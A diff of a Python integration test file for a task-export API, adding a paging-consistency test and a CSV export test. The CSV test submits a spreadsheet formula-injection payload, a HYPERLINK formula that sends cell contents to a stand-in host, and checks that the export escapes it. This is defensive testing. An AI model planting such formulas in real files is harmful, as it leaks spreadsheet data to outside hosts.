@@ -1,9 +1,13 @@
 """A whole list at once: it is what the pages of the list say, and that it left the node is recorded."""
 
+import csv
+from typing import Any
+
 import pytest
 
 from domain.access import Accessed, AccessRecorded
 from domain.authority import Role
+from projections.engine import paging
 from tests.integration.api.conftest import Api
 
 
@@ -19,7 +23,7 @@ def last(api: Api) -> object:
 
 
 def test_a_list_at_once_has_what_its_pages_have(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("services.api.exports.LARGEST", 2)
+    monkeypatch.setattr("services.exchange.exports.LARGEST", 2)
     for number in range(5):
         assert api.assign(f"任务{number}").status_code == 201
     position = caught_up(api)
@@ -60,12 +64,38 @@ def test_a_parameter_that_nobody_knows_is_refused(api: Api, query: dict[str, str
     assert api.node.log.head() == head
 
 
-def test_a_list_that_is_too_long_is_refused(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
-    assert api.assign("一").status_code == api.assign("二").status_code == 201
+def test_a_list_stands_as_it_was_when_it_was_asked_for_however_the_log_moves_meanwhile(
+    api: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("services.exchange.exports.LARGEST", 1)
+    ids = [api.assign(f"任务{number}").json()["id"] for number in range(3)]
     caught_up(api)
-    monkeypatch.setattr("services.api.exports.MOST", 1)
-    answer = api.get("/v1/exports/tasks")
-    assert (answer.status_code, answer.json()["type"]) == (413, "/problems/too-many-rows")
+    read, pages = paging.page, list[Any]()
+
+    def moved(*arguments: Any) -> Any:
+        pages.append(read(*arguments))
+        if len(pages) == 1:
+            assert api.post(f"/v1/tasks/{ids[2]}/recall", {"reason": "重复"}).is_success
+            assert api.assign("后来的任务").status_code == 201
+            caught_up(api)
+        return pages[-1]
+
+    monkeypatch.setattr("projections.engine.paging.page", moved)
+    answer = api.get("/v1/exports/tasks").json()
+    told = [item["task"]["id"] for item in answer["items"]]
+    assert (told[-3:], answer["total"], len(pages)) == (ids, len(told), len(told))
+    assert answer["items"][-1]["task"]["status"] == "open"
+
+
+def test_a_list_is_csv_for_who_asks_for_it(api: Api) -> None:
+    assert api.assign('=HYPERLINK("http://x.example/?"&A1,"看")').status_code == 201
+    caught_up(api)
+    answer = api.get("/v1/exports/tasks", headers={"Accept": "text/csv", "Accept-Language": "zh"})
+    assert answer.headers["content-type"].startswith("text/csv")
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    headings, *_, row = csv.reader(answer.content.decode("utf-8-sig").splitlines())
+    told = dict(zip(headings, row, strict=True))
+    assert (told["任务"], told["状态"]) == ('\'=HYPERLINK("http://x.example/?"&A1,"看")', "办理中")
 
 
 def test_an_export_is_for_readers(api: Api) -> None:
